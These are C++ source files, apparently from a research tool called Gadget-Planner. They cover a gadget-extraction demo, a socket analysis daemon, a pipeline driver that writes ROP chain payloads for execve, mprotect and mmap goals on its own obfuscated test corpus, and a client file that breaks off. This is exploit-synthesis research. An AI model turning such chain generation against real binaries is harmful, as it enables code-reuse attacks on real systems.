    std::printf("checkpoints (GP_STORE_DIR): %llu stage outputs served, "
                "%llu written\n",
                (unsigned long long)ckpt_served,
                (unsigned long long)ckpt_written);
  return 0;
}
