// The paper's Table II/III, live: extract the conditional-jump gadget of
// Fig. 4(b) and print its record — length, location, jump type, clobbered
// and controlled registers, and the pre-/post-conditions produced by
// symbolic execution.
#include <cstdio>

#include "gadget/gadget.hpp"
#include "subsume/subsume.hpp"
#include "support/str.hpp"
#include "x86/encoder.hpp"

int main() {
  using namespace gp;
  using x86::Cond;
  using x86::Mnemonic;
  using x86::Reg;

  // Fig. 4(b): mov rdi, rax; cmp rdx, rbx; jnz trap; pop rax; ret
  x86::Assembler a;
  auto trap = a.new_label();
  a.mov(Reg::RDI, Reg::RAX);
  a.alu(Mnemonic::CMP, Reg::RDX, Reg::RBX);
  a.jcc(Cond::NE, trap);
  a.pop(Reg::RAX);
  a.ret();
  a.bind(trap);
  a.int3();
  image::Image img(a.finish(), {}, image::kCodeBase);

  solver::Context ctx;
  gadget::Extractor extractor(ctx, img);
  auto pool = extractor.extract({});
  std::printf("extracted %zu gadget records from %zu bytes\n\n", pool.size(),
              img.code().size());

  // Find the full-length conditional variant starting at the first byte.
  const gadget::Record* record = nullptr;
  for (const auto& r : pool)
    if (r.addr == image::kCodeBase && r.has_cond_jump) record = &r;
  if (!record) {
    std::printf("conditional gadget not found\n");
    return 1;
  }

  std::printf("record (paper Table II):\n");
  std::printf("  len       %u bytes\n", record->len);
  std::printf("  location  %s\n", hex(record->addr).c_str());
  std::printf("  jmp-type  %s (crosses a conditional jump)\n",
              gadget::end_kind_name(record->end));

  auto mask_to_names = [](gadget::RegMask m) {
    std::string s;
    for (int i = 0; i < x86::kNumRegs; ++i)
      if (m & gadget::reg_bit(static_cast<Reg>(i)))
        s += std::string(s.empty() ? "" : ", ") +
             x86::reg_name(static_cast<Reg>(i));
    return s;
  };
  std::printf("  clob-reg  %s\n", mask_to_names(record->clobbered).c_str());
  std::printf("  ctrl-reg  %s\n", mask_to_names(record->controlled).c_str());

  std::printf("  pre-cond  ");
  for (size_t i = 0; i < record->precond.size(); ++i)
    std::printf("%s%s", i ? " && " : "",
                ctx.to_string(record->precond[i]).c_str());
  std::printf("\n");

  std::printf("  post-cond rdi := %s\n",
              ctx.to_string(
                      record->final_regs[static_cast<int>(Reg::RDI)])
                  .c_str());
  std::printf("            rax := %s\n",
              ctx.to_string(
                      record->final_regs[static_cast<int>(Reg::RAX)])
                  .c_str());
  std::printf("            rsp := %s\n",
              ctx.to_string(
                      record->final_regs[static_cast<int>(Reg::RSP)])
                  .c_str());
  std::printf("            rip := %s\n", ctx.to_string(record->next_rip).c_str());

  std::printf("\ninstruction path:\n");
  for (const auto& s : record->path)
    std::printf("  %s%s\n", x86::to_string(s.inst).c_str(),
                s.inst.mnemonic == Mnemonic::JCC
                    ? (s.branch_taken ? "   ; taken" : "   ; not taken")
                    : "");

  // Subsumption demo (Sec. IV-C): the unconditional `pop rax; ret` variant
  // subsumes this gadget's rax-setting capability under a looser
  // pre-condition.
  x86::Assembler b;
  b.pop(Reg::RAX);
  b.ret();
  image::Image img2(b.finish(), {}, image::kCodeBase);
  gadget::Extractor ex2(ctx, img2);
  auto pool2 = ex2.extract({});
  solver::Solver solver(ctx);
  for (const auto& g1 : pool2) {
    if (g1.addr != image::kCodeBase) continue;
    // `pop rax; ret` has an empty (always-true) pre-condition, which is a
    // superset of the conditional gadget's "rdx == rbx" — eq. (1) holds for
    // the rax-setting capability.
    solver::ExprRef pre2 = ctx.t();
    for (const auto c : record->precond) pre2 = ctx.band(pre2, c);
    std::printf("\nsubsumption (eq. 1) against plain `pop rax; ret`:\n");
    std::printf("  pre_2 -> pre_1 (true):   %s\n",
                solver.prove_implies(pre2, ctx.t()) ? "holds" : "fails");
    const bool same_rax =
        solver.prove_equal(g1.final_regs[static_cast<int>(Reg::RAX)],
                           record->final_regs[static_cast<int>(Reg::RAX)]);
    std::printf("  rax post-states equal:   %s\n", same_rax ? "yes" : "no");
  }
  return 0;
}
