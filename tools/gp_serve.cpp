// gp_serve: long-running analysis daemon over a unix-domain socket.
//
//   gp_serve --sock /tmp/gp.sock [--store <dir>] [--queue <n>]
//            [--max-active <n>] [--ready-fd <fd>]
//
// Flags default from the environment (GP_SERVE_SOCK, GP_STORE_DIR,
// GP_SERVE_QUEUE, GP_SERVE_MAX_ACTIVE); chaos and budget knobs (GP_FAULT,
// GP_DEADLINE_MS, ...) apply as everywhere else. --ready-fd writes one
// byte ("R") to the given fd once the socket is listening, so harness
// scripts can wait for readiness without polling.
//
// Lifecycle:
//   - SIGTERM/SIGINT: graceful drain — stop admitting (new submits are
//     shed with reason "draining"), finish queued + in-flight jobs (their
//     stage outputs checkpoint to the store), then exit 0.
//   - kShutdown from a client: same drain, same exit 0.
//   - SIGKILL: nothing to handle — the artifact store's manifest and
//     CRC-checked records survive, and a restarted daemon on the same
//     --store dir replays the job journal: the incomplete backlog is
//     re-enqueued server-side (no client resubmission) and finishes to
//     byte-identical digests; jobs whose incarnations keep dying are
//     quarantined and answered `poisoned`.
#include <unistd.h>

#include <cstdio>
#include <cstdlib>
#include <cstring>
#include <poll.h>

#include "core/engine.hpp"
#include "serve/server.hpp"
#include "support/metrics.hpp"
#include "support/signal.hpp"

namespace {

int usage(const char* argv0) {
  std::fprintf(stderr,
               "usage: %s --sock <path> [--store <dir>] [--queue <n>] "
               "[--max-active <n>] [--ready-fd <fd>]\n"
               "env: GP_SERVE_SOCK, GP_SERVE_QUEUE, GP_SERVE_MAX_ACTIVE, "
               "GP_STORE_DIR, GP_FAULT, GP_METRICS, GP_DEADLINE_MS\n",
               argv0);
  return 2;
}

}  // namespace

int main(int argc, char** argv) {
  using namespace gp;

  serve::ServeOptions opts = serve::ServeOptions::from_env();
  int ready_fd = -1;
  for (int i = 1; i < argc; ++i) {
    const std::string arg = argv[i];
    const char* v = i + 1 < argc ? argv[i + 1] : nullptr;
    if (arg == "--sock" && v) {
      opts.socket_path = v;
      ++i;
    } else if (arg == "--store" && v) {
      opts.store_dir = v;
      ++i;
    } else if (arg == "--queue" && v) {
      opts.queue_limit = std::atoi(v);
      ++i;
    } else if (arg == "--max-active" && v) {
      opts.max_active = std::atoi(v);
      ++i;
    } else if (arg == "--ready-fd" && v) {
      ready_fd = std::atoi(v);
      ++i;
    } else {
      return usage(argv[0]);
    }
  }
  if (opts.socket_path.empty()) return usage(argv[0]);

  // The drill scripts read serve.* counters out of kStats replies; a
  // serving daemon without metrics is flying blind, so default them on.
  metrics::set_enabled(true);

  sig::ignore_sigpipe();
  sig::install_drain_handler();

  core::Engine& engine = core::Engine::shared();
  serve::Server server(engine, opts);
  if (Status st = server.start(); !st.ok()) {
    std::fprintf(stderr, "gp_serve: %s\n", st.to_string().c_str());
    return 1;
  }
  std::fprintf(stderr,
               "gp_serve: listening on %s (queue=%d, max-active=%d, "
               "store=%s)\n",
               opts.socket_path.c_str(), server.options().queue_limit,
               server.options().max_active,
               opts.store_dir.empty() ? "<disabled>" : opts.store_dir.c_str());
  if (const serve::ReplaySummary& rs = server.replay_summary();
      rs.journal_enabled) {
    std::fprintf(stderr,
                 "gp_serve: journal replay: %llu records, %llu requeued, "
                 "%llu completed, %llu quarantined%s%s%s\n",
                 static_cast<unsigned long long>(rs.records),
                 static_cast<unsigned long long>(rs.requeued),
                 static_cast<unsigned long long>(rs.completed),
                 static_cast<unsigned long long>(rs.quarantined),
                 rs.clean_shutdown ? " (clean shutdown)" : "",
                 rs.torn_tail_bytes ? " (torn tail truncated)" : "",
                 rs.rotated ? " (rotated: bad header)" : "");
  }
  if (ready_fd >= 0) {
    const char r = 'R';
    (void)!::write(ready_fd, &r, 1);
    ::close(ready_fd);
  }

  // Sleep on the signal self-pipe until SIGTERM/SIGINT or a client's
  // kShutdown asks for drain.
  while (!sig::drain_requested() && !server.shutdown_requested()) {
    pollfd pfd{sig::drain_wakeup_fd(), POLLIN, 0};
    (void)::poll(&pfd, 1, 200);
  }

  std::fprintf(stderr, "gp_serve: draining (%s)\n",
               sig::drain_requested() ? "signal" : "client shutdown");
  server.stop(/*drain=*/true);
  std::fprintf(stderr, "gp_serve: drained, exiting\n");
  return 0;
}
