// gp_pipeline: command-line driver for the full Gadget-Planner pipeline
// with durable checkpoint/resume.
//
// The robustness harness (scripts/tier1.sh) uses it to prove kill-resume
// determinism: run once cold, SIGKILL a second run mid-extraction with
// GP_STORE_DIR set, re-run to resume from the surviving checkpoints, and
// byte-diff the emitted payloads against the cold reference.
//
//   gp_pipeline [--program <name>] [--obf <profile>] [--seed <n>]
//               [--image <file.gpim>] [--save-image <file.gpim>]
//               [--goal <execve|mprotect|mmap|all>] [--out <dir>] [--report]
//
// Either compile a corpus program (--program/--obf/--seed) or analyze a
// previously saved flat-binary image (--image). --out writes each chain's
// payload bytes to <dir>/<goal>-<index>.bin for diffing. Checkpointing and
// retry knobs come from the environment: GP_STORE_DIR, GP_RETRIES, plus the
// governor (GP_DEADLINE_MS, ...) and chaos (GP_FAULT) knobs.
#include <cstdio>
#include <cstring>
#include <string>
#include <vector>

#include "codegen/codegen.hpp"
#include "core/core.hpp"
#include "corpus/corpus.hpp"
#include "minic/minic.hpp"
#include "support/serial.hpp"

namespace {

int usage(const char* argv0) {
  std::fprintf(
      stderr,
      "usage: %s [--program <name>] [--obf none|substitution|bogus-cf|"
      "flatten|encode-data|virtualize|llvm-obf|tigress] [--seed <n>]\n"
      "          [--image <file.gpim>] [--save-image <file.gpim>]\n"
      "          [--goal execve|mprotect|mmap|all] [--out <dir>] [--report]\n"
      "env: GP_STORE_DIR (checkpoint dir), GP_RETRIES, GP_DEADLINE_MS, "
      "GP_FAULT, GP_THREADS\n",
      argv0);
  return 2;
}

gp::obf::Options obf_profile(const std::string& name, int seed) {
  using gp::obf::Options;
  if (name == "none") return Options::none();
  if (name == "substitution") return {.substitution = true, .seed = seed};
  if (name == "bogus-cf") return {.bogus_cf = true, .seed = seed};
  if (name == "flatten") return {.flatten = true, .seed = seed};
  if (name == "encode-data") return {.encode_data = true, .seed = seed};
  if (name == "virtualize") return {.virtualize = true, .seed = seed};
  if (name == "llvm-obf") return Options::llvm_obf(seed);
  if (name == "tigress") return Options::tigress(seed);
  throw gp::Error("unknown obfuscation profile '" + name + "'");
}

void print_runs(const char* stage, const gp::core::StageRuns& r,
                const gp::Status& st, double seconds) {
  std::printf("  %-8s %6.2fs  attempts=%u retries=%u cache-hits=%u "
              "resumes=%u  status=%s\n",
              stage, seconds, r.attempts, r.retries, r.cache_hits, r.resumes,
              st.ok() ? "ok" : st.to_string().c_str());
}

}  // namespace

int main(int argc, char** argv) {
  using namespace gp;

  std::string program = "hash_table", obf_name = "llvm-obf";
  std::string image_path, save_image_path, goal_name = "all", out_dir;
  bool want_report = false;
  int seed = 5;
  for (int i = 1; i < argc; ++i) {
    const std::string arg = argv[i];
    auto next = [&]() -> const char* {
      return i + 1 < argc ? argv[++i] : nullptr;
    };
    if (arg == "--program") {
      if (const char* v = next()) program = v; else return usage(argv[0]);
    } else if (arg == "--obf") {
      if (const char* v = next()) obf_name = v; else return usage(argv[0]);
    } else if (arg == "--seed") {
      if (const char* v = next()) seed = std::atoi(v); else return usage(argv[0]);
    } else if (arg == "--image") {
      if (const char* v = next()) image_path = v; else return usage(argv[0]);
    } else if (arg == "--save-image") {
      if (const char* v = next()) save_image_path = v; else return usage(argv[0]);
    } else if (arg == "--goal") {
      if (const char* v = next()) goal_name = v; else return usage(argv[0]);
    } else if (arg == "--out") {
      if (const char* v = next()) out_dir = v; else return usage(argv[0]);
    } else if (arg == "--report") {
      want_report = true;
    } else {
      return usage(argv[0]);
    }
  }

  image::Image img;
  if (!image_path.empty()) {
    auto loaded = image::load_file(image_path);
    if (!loaded.ok()) {
      std::fprintf(stderr, "gp_pipeline: %s: %s\n", image_path.c_str(),
                   loaded.status().to_string().c_str());
      return 1;
    }
    img = std::move(loaded.value());
  } else {
    auto prog = minic::compile_source(corpus::by_name(program).source);
    obf::obfuscate(prog, obf_profile(obf_name, seed));
    img = codegen::compile(prog);
  }
  if (!save_image_path.empty()) {
    const Status st = image::save_file(img, save_image_path);
    if (!st.ok()) {
      std::fprintf(stderr, "gp_pipeline: save-image: %s\n",
                   st.to_string().c_str());
      return 1;
    }
  }

  core::GadgetPlanner gp(img);
  std::printf("pool: %llu raw -> %llu minimized\n",
              (unsigned long long)gp.report().pool_raw,
              (unsigned long long)gp.report().pool_minimized);

  std::vector<payload::Goal> goals;
  if (goal_name == "all") {
    goals = payload::Goal::all();
  } else {
    for (const auto& g : payload::Goal::all())
      if (g.name == goal_name) goals.push_back(g);
    if (goals.empty()) return usage(argv[0]);
  }

  int exit_code = 0;
  for (const auto& goal : goals) {
    const auto chains = gp.find_chains(goal);
    std::printf("%s: %zu chains\n", goal.name.c_str(), chains.size());
    if (chains.empty()) exit_code = 1;
    if (out_dir.empty()) continue;
    for (size_t i = 0; i < chains.size(); ++i) {
      const std::string path =
          out_dir + "/" + goal.name + "-" + std::to_string(i) + ".bin";
      const Status st = serial::write_file_atomic(path, chains[i].payload);
      if (!st.ok()) {
        std::fprintf(stderr, "gp_pipeline: %s: %s\n", path.c_str(),
                     st.to_string().c_str());
        return 1;
      }
    }
  }

  if (want_report) {
    const auto& r = gp.report();
    std::printf("stage report:\n");
    print_runs("extract", r.extract_runs, r.extract_status, r.extract_seconds);
    print_runs("subsume", r.subsume_runs, r.subsume_status, r.subsume_seconds);
    print_runs("plan", r.plan_runs, r.plan_status, r.plan_seconds);
    std::printf("  store    hits=%llu resumes=%llu misses=%llu "
                "corrupt=%llu stale=%llu puts=%llu put-failures=%llu\n",
                (unsigned long long)r.store.hits,
                (unsigned long long)r.store.resumes,
                (unsigned long long)r.store.misses,
                (unsigned long long)r.store.corrupt,
                (unsigned long long)r.store.stale,
                (unsigned long long)r.store.puts,
                (unsigned long long)r.store.put_failures);
  }
  return exit_code;
}
