// gp_pipeline: command-line driver for the full Gadget-Planner pipeline
// with durable checkpoint/resume.
//
// The robustness harness (scripts/tier1.sh) uses it to prove kill-resume
// determinism: run once cold, SIGKILL a second run mid-extraction with
// GP_STORE_DIR set, re-run to resume from the surviving checkpoints, and
// byte-diff the emitted payloads against the cold reference.
//
//   gp_pipeline [--program <name>] [--obf <profile>] [--seed <n>]
//               [--image <file.gpim>] [--save-image <file.gpim>]
//               [--goal <execve|mprotect|mmap|all>] [--out <dir>] [--report]
//   gp_pipeline --campaign [--profiles a,b,c] [--jobs <n>] [--goal ...]
//               [--seed <n>] [--summary <file.json>]
//
// Either compile a corpus program (--program/--obf/--seed), analyze a
// previously saved flat-binary image (--image), or run a whole campaign:
// the full corpus × the named obfuscation profiles, analyzed by up to
// --jobs concurrent sessions on one engine, with the machine-readable
// gp-campaign-v1 summary (per-stage seconds, pool sizes, chain counts,
// result digests) written to --summary. --out writes each chain's payload
// bytes to <dir>/<goal>-<index>.bin for diffing. Checkpointing and retry
// knobs come from the environment: GP_STORE_DIR, GP_RETRIES, plus the
// governor (GP_DEADLINE_MS, ...) and chaos (GP_FAULT) knobs.
//
// Campaign exit codes: 0 every job ok, 3 at least one job degraded
// (deadline/budget/fault — partial but usable results), 4 at least one job
// failed outright, 1 I/O error, 2 usage.
#include <cstdio>
#include <cstring>
#include <functional>
#include <string>
#include <vector>

#include "codegen/codegen.hpp"
#include "core/core.hpp"
#include "corpus/corpus.hpp"
#include "minic/minic.hpp"
#include "support/config.hpp"
#include "support/metrics.hpp"
#include "support/serial.hpp"
#include "support/trace.hpp"

namespace {

int usage(const char* argv0) {
  std::fprintf(
      stderr,
      "usage: %s [--program <name>] [--obf none|substitution|bogus-cf|"
      "flatten|encode-data|virtualize|llvm-obf|tigress] [--seed <n>]\n"
      "          [--image <file.gpim>] [--save-image <file.gpim>]\n"
      "          [--goal execve|mprotect|mmap|all] [--out <dir>] [--report]\n"
      "          [--trace-out <file.json>]\n"
      "       %s --campaign [--profiles a,b,c] [--opt-levels 0,1,2] "
      "[--jobs <n>] [--goal ...]\n"
      "          [--seed <n>] [--summary <file.json>] "
      "[--trace-out <file.json>]\n"
      "env: GP_STORE_DIR (checkpoint dir), GP_RETRIES, GP_DEADLINE_MS, "
      "GP_FAULT, GP_THREADS, GP_OPT_LEVEL (codegen 0|1|2), GP_METRICS, "
      "GP_TRACE, GP_TRACE_BUF\n",
      argv0, argv0);
  return 2;
}

std::vector<std::string> split_csv(const std::string& csv) {
  std::vector<std::string> out;
  std::string cur;
  for (const char c : csv) {
    if (c == ',') {
      if (!cur.empty()) out.push_back(cur);
      cur.clear();
    } else {
      cur += c;
    }
  }
  if (!cur.empty()) out.push_back(cur);
  return out;
}

void print_runs(const char* stage, const gp::core::StageRuns& r,
                const gp::Status& st, double seconds) {
  std::printf("  %-8s %6.2fs  attempts=%u retries=%u cache-hits=%u "
              "resumes=%u  status=%s\n",
              stage, seconds, r.attempts, r.retries, r.cache_hits, r.resumes,
              st.ok() ? "ok" : st.to_string().c_str());
}

}  // namespace

int main(int argc, char** argv) {
  using namespace gp;

  std::string program = "hash_table", obf_name = "llvm-obf";
  std::string image_path, save_image_path, goal_name = "all", out_dir;
  std::string profiles_csv = "none,llvm-obf,tigress", summary_path;
  std::string opt_levels_csv, trace_path;
  bool want_report = false, campaign_mode = false;
  int seed = 5, campaign_jobs = 1;
  for (int i = 1; i < argc; ++i) {
    std::string arg = argv[i];
    // --flag=value is accepted as a synonym for --flag value.
    std::string inline_value;
    bool has_inline = false;
    if (const size_t eq = arg.find('='); eq != std::string::npos) {
      inline_value = arg.substr(eq + 1);
      arg.resize(eq);
      has_inline = true;
    }
    std::function<const char*()> next;
    if (has_inline)
      next = [&]() -> const char* { return inline_value.c_str(); };
    else
      next = [&]() -> const char* {
        return i + 1 < argc ? argv[++i] : nullptr;
      };
    if (arg == "--program") {
      if (const char* v = next()) program = v; else return usage(argv[0]);
    } else if (arg == "--obf") {
      if (const char* v = next()) obf_name = v; else return usage(argv[0]);
    } else if (arg == "--seed") {
      if (const char* v = next()) seed = std::atoi(v); else return usage(argv[0]);
    } else if (arg == "--image") {
      if (const char* v = next()) image_path = v; else return usage(argv[0]);
    } else if (arg == "--save-image") {
      if (const char* v = next()) save_image_path = v; else return usage(argv[0]);
    } else if (arg == "--goal") {
      if (const char* v = next()) goal_name = v; else return usage(argv[0]);
    } else if (arg == "--out") {
      if (const char* v = next()) out_dir = v; else return usage(argv[0]);
    } else if (arg == "--report") {
      want_report = true;
    } else if (arg == "--campaign") {
      campaign_mode = true;
    } else if (arg == "--profiles") {
      if (const char* v = next()) profiles_csv = v; else return usage(argv[0]);
    } else if (arg == "--opt-levels") {
      if (const char* v = next()) opt_levels_csv = v;
      else return usage(argv[0]);
    } else if (arg == "--jobs") {
      if (const char* v = next()) campaign_jobs = std::atoi(v);
      else return usage(argv[0]);
    } else if (arg == "--summary") {
      if (const char* v = next()) summary_path = v; else return usage(argv[0]);
    } else if (arg == "--trace-out") {
      if (const char* v = next()) trace_path = v; else return usage(argv[0]);
    } else {
      return usage(argv[0]);
    }
  }

  // --trace-out turns recording on for this run regardless of GP_TRACE; the
  // export happens on every exit path below.
  if (!trace_path.empty()) trace::set_enabled(true);
  auto export_trace = [&]() -> bool {
    if (trace_path.empty()) return true;
    const Status st = trace::export_chrome_json(trace_path);
    if (!st.ok())
      std::fprintf(stderr, "gp_pipeline: trace-out %s: %s\n",
                   trace_path.c_str(), st.to_string().c_str());
    return st.ok();
  };

  std::vector<payload::Goal> goals;
  if (goal_name == "all") {
    goals = payload::Goal::all();
  } else {
    for (const auto& g : payload::Goal::all())
      if (g.name == goal_name) goals.push_back(g);
    if (goals.empty()) return usage(argv[0]);
  }

  if (campaign_mode) {
    // --opt-levels fans a third campaign axis; unset leaves one job per
    // (program, profile) at the GP_OPT_LEVEL default. Bad level strings
    // reject inside corpus_jobs with the valid grammar.
    std::vector<int> opt_levels;
    for (const auto& s : split_csv(opt_levels_csv)) {
      char* end = nullptr;
      const long v = std::strtol(s.c_str(), &end, 10);
      if (end == s.c_str() || *end != '\0') {
        std::fprintf(stderr,
                     "gp_pipeline: bad --opt-levels entry '%s' "
                     "(valid levels: 0, 1, 2)\n",
                     s.c_str());
        return 2;
      }
      opt_levels.push_back(static_cast<int>(v));
    }
    auto jobs =
        core::Campaign::corpus_jobs(split_csv(profiles_csv), seed, opt_levels);
    if (jobs.empty()) return usage(argv[0]);
    for (auto& job : jobs) job.goals = goals;

    core::Campaign::Options copts;
    copts.concurrency = campaign_jobs;
    core::Campaign campaign(core::Engine::shared(), copts);
    const auto summary = campaign.run(jobs);

    for (const auto& r : summary.results)
      std::printf("%-14s %-12s %s %5d chains  %6.2fs  %s\n", r.program.c_str(),
                  r.obfuscation.c_str(),
                  codegen::opt_level_name(
                      codegen::opt_level_from_int(r.opt_level)),
                  r.total_chains(), r.seconds,
                  status_code_name(r.status.code()));
    std::printf("campaign: %zu jobs (%d ok, %d degraded, %d failed) in "
                "%.2fs at concurrency %d\n",
                summary.results.size(), summary.jobs_ok, summary.jobs_degraded,
                summary.jobs_failed, summary.wall_seconds, summary.concurrency);
    const auto cp = summary.critical_path();
    if (cp.job >= 0)
      std::printf("critical path: %s stage of %s/%s (%.2fs of the %.2fs "
                  "wall; job finished last at %.2fs)\n",
                  cp.stage.c_str(), cp.program.c_str(), cp.obfuscation.c_str(),
                  cp.stage_seconds, summary.wall_seconds, cp.end_seconds);

    if (!summary_path.empty()) {
      const std::string json = summary.to_json();
      const Status st = serial::write_file_atomic(
          summary_path, std::vector<u8>(json.begin(), json.end()));
      if (!st.ok()) {
        std::fprintf(stderr, "gp_pipeline: %s: %s\n", summary_path.c_str(),
                     st.to_string().c_str());
        return 1;
      }
    }
    if (!export_trace()) return 1;
    // Distinct exit codes so harnesses can tell outcomes apart without
    // parsing the summary: 0 all ok, 3 some jobs degraded (deadline/budget/
    // fault — usable but partial results), 4 some jobs failed outright.
    if (summary.jobs_failed > 0) return 4;
    if (summary.jobs_degraded > 0) return 3;
    return 0;
  }

  image::Image img;
  if (!image_path.empty()) {
    auto loaded = image::load_file(image_path);
    if (!loaded.ok()) {
      std::fprintf(stderr, "gp_pipeline: %s: %s\n", image_path.c_str(),
                   loaded.status().to_string().c_str());
      return 1;
    }
    img = std::move(loaded.value());
  } else {
    auto prog = minic::compile_source(corpus::by_name(program).source);
    obf::obfuscate(prog,
                   core::profile_by_name(obf_name, static_cast<u64>(seed)));
    codegen::Options copts;
    copts.opt = codegen::opt_level_from_int(Config::from_env().opt_level);
    img = codegen::compile(prog, copts);
  }
  if (!save_image_path.empty()) {
    const Status st = image::save_file(img, save_image_path);
    if (!st.ok()) {
      std::fprintf(stderr, "gp_pipeline: save-image: %s\n",
                   st.to_string().c_str());
      return 1;
    }
  }

  core::GadgetPlanner gp(img);
  std::printf("pool: %llu raw -> %llu minimized\n",
              (unsigned long long)gp.report().pool_raw,
              (unsigned long long)gp.report().pool_minimized);

  int exit_code = 0;
  for (const auto& goal : goals) {
    const auto chains = gp.find_chains(goal);
    std::printf("%s: %zu chains\n", goal.name.c_str(), chains.size());
    if (chains.empty()) exit_code = 1;
    if (out_dir.empty()) continue;
    for (size_t i = 0; i < chains.size(); ++i) {
      const std::string path =
          out_dir + "/" + goal.name + "-" + std::to_string(i) + ".bin";
      const Status st = serial::write_file_atomic(path, chains[i].payload);
      if (!st.ok()) {
        std::fprintf(stderr, "gp_pipeline: %s: %s\n", path.c_str(),
                     st.to_string().c_str());
        return 1;
      }
    }
  }

  if (want_report) {
    const auto& r = gp.report();
    std::printf("stage report:\n");
    print_runs("extract", r.extract_runs, r.extract_status, r.extract_seconds);
    print_runs("subsume", r.subsume_runs, r.subsume_status, r.subsume_seconds);
    print_runs("plan", r.plan_runs, r.plan_status, r.plan_seconds);
    std::printf("  store    hits=%llu resumes=%llu misses=%llu "
                "corrupt=%llu stale=%llu puts=%llu put-failures=%llu\n",
                (unsigned long long)r.store.hits,
                (unsigned long long)r.store.resumes,
                (unsigned long long)r.store.misses,
                (unsigned long long)r.store.corrupt,
                (unsigned long long)r.store.stale,
                (unsigned long long)r.store.puts,
                (unsigned long long)r.store.put_failures);
    std::printf("  rss      extract=%s subsume=%s plan=%s (MiB)\n",
                core::format_rss_mb(r.rss_mb_after_extract).c_str(),
                core::format_rss_mb(r.rss_mb_after_subsume).c_str(),
                core::format_rss_mb(r.rss_mb_after_plan).c_str());
    if (metrics::enabled())
      std::printf("metrics: %s\n", metrics::registry().to_json().c_str());
  }
  if (!export_trace()) return 1;
  return exit_code;
}
