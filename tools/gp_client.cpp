// gp_client: command-line client for the gp_serve daemon.
//
//   gp_client --sock <path> submit [--program <name>] [--source-file <f>]
//             [--obf <profile>] [--goal <g>] [--seed <n>] [--class <c>]
//             [--deadline-ms <x>] [--solver-checks <n>] [--no-stream]
//             [--retries <n>] [--quiet]
//   gp_client --sock <path> attach <job-id>
//   gp_client --sock <path> stats|ping|shutdown
//
// submit prints the admission verdict, streamed stage transitions, and the
// terminal result line:
//
//   job=job-<hex16> status=ok digest=<hex16> chains=12 warm=1 seconds=0.42
//
// Exit codes mirror gp_pipeline's campaign taxonomy so scripts can branch
// without parsing: 0 job ok, 3 degraded (deadline/budget/fault), 4 failed
// (internal), 5 shed and retries exhausted, 1 connection/protocol error,
// 2 usage. --retries N covers BOTH flavors of transient failure: a shed
// honors the daemon's retry_after_ms hint, while a connect refusal or a
// mid-stream read error (a daemon restarting under it) gets exponential
// backoff and a fresh submit — the identical spec dedupes onto the live
// record or replayed journal entry, so riding out a restart is free.
#include <unistd.h>

#include <algorithm>
#include <chrono>
#include <cstdio>
#include <cstdlib>
#include <cstring>
#include <fstream>
#include <sstream>
#include <string>
#include <thread>

#include "serve/client.hpp"

namespace {

int usage(const char* argv0) {
  std::fprintf(
      stderr,
      "usage: %s --sock <path> submit [--program <name>] "
      "[--source-file <f>] [--obf <profile>] [--goal <g>] [--seed <n>]\n"
      "                [--class <c>] [--deadline-ms <x>] "
      "[--solver-checks <n>] [--no-stream] [--retries <n>] [--quiet]\n"
      "       %s --sock <path> attach <job-id>\n"
      "       %s --sock <path> stats|ping|shutdown\n",
      argv0, argv0, argv0);
  return 2;
}

int outcome_exit_code(const gp::serve::JobOutcome& out) {
  const auto code = static_cast<gp::StatusCode>(out.status_code);
  if (code == gp::StatusCode::Ok) return 0;
  if (code == gp::StatusCode::Internal) return 4;
  return 3;
}

void print_outcome(const gp::serve::JobOutcome& out) {
  std::printf("job=%s status=%s digest=%016llx chains=%u warm=%d "
              "seconds=%.3f\n",
              out.job_id.c_str(),
              gp::status_code_name(static_cast<gp::StatusCode>(
                  out.status_code)),
              static_cast<unsigned long long>(out.digest),
              out.chains_total(), out.warm ? 1 : 0, out.seconds);
  if (out.status_code != 0 && !out.status_msg.empty())
    std::fprintf(stderr, "gp_client: job status: %s\n",
                 out.status_msg.c_str());
}

}  // namespace

int main(int argc, char** argv) {
  using namespace gp;
  using serve::Client;

  std::string sock, command, job_id;
  serve::JobSpec spec;
  spec.program = "hash_table";
  bool stream = true, quiet = false;
  int retries = 0;

  for (int i = 1; i < argc; ++i) {
    const std::string arg = argv[i];
    const char* v = i + 1 < argc ? argv[i + 1] : nullptr;
    if (arg == "--sock" && v) {
      sock = v;
      ++i;
    } else if (arg == "--program" && v) {
      spec.program = v;
      ++i;
    } else if (arg == "--source-file" && v) {
      std::ifstream in(v);
      if (!in) {
        std::fprintf(stderr, "gp_client: cannot read %s\n", v);
        return 1;
      }
      std::ostringstream ss;
      ss << in.rdbuf();
      spec.source = ss.str();
      ++i;
    } else if (arg == "--obf" && v) {
      spec.obf = v;
      ++i;
    } else if (arg == "--goal" && v) {
      spec.goal = v;
      ++i;
    } else if (arg == "--seed" && v) {
      spec.seed = static_cast<u64>(std::atoll(v));
      ++i;
    } else if (arg == "--class" && v) {
      spec.klass = v;
      ++i;
    } else if (arg == "--deadline-ms" && v) {
      spec.deadline_ms = std::atof(v);
      ++i;
    } else if (arg == "--solver-checks" && v) {
      spec.solver_checks = static_cast<u64>(std::atoll(v));
      ++i;
    } else if (arg == "--no-stream") {
      stream = false;
    } else if (arg == "--retries" && v) {
      retries = std::atoi(v);
      ++i;
    } else if (arg == "--quiet") {
      quiet = true;
    } else if (command.empty() && !arg.empty() && arg[0] != '-') {
      command = arg;
    } else if (command == "attach" && job_id.empty()) {
      job_id = arg;
    } else {
      return usage(argv[0]);
    }
  }
  if (sock.empty() || command.empty()) return usage(argv[0]);

  auto connect = [&]() -> Result<Client> { return Client::connect(sock); };

  if (command == "ping" || command == "stats" || command == "shutdown") {
    auto c = connect();
    if (!c.ok()) {
      std::fprintf(stderr, "gp_client: %s\n", c.status().to_string().c_str());
      return 1;
    }
    Status st;
    if (command == "ping") {
      st = c.value().ping();
      if (st.ok()) std::printf("pong\n");
    } else if (command == "shutdown") {
      st = c.value().shutdown_server();
      if (st.ok()) std::printf("draining\n");
    } else {
      auto json = c.value().stats();
      st = json.status();
      if (json.ok()) std::printf("%s\n", json.value().c_str());
    }
    if (!st.ok()) {
      std::fprintf(stderr, "gp_client: %s\n", st.to_string().c_str());
      return 1;
    }
    return 0;
  }

  if (command == "attach") {
    if (job_id.empty()) return usage(argv[0]);
    auto c = connect();
    if (!c.ok()) {
      std::fprintf(stderr, "gp_client: %s\n", c.status().to_string().c_str());
      return 1;
    }
    auto adm = c.value().attach(job_id);
    if (!adm.ok()) {
      std::fprintf(stderr, "gp_client: %s\n",
                   adm.status().to_string().c_str());
      return 1;
    }
    auto outcome = c.value().wait_result([&](const serve::ProgressMsg& p) {
      if (!quiet) std::fprintf(stderr, "stage: %s\n", p.stage.c_str());
    });
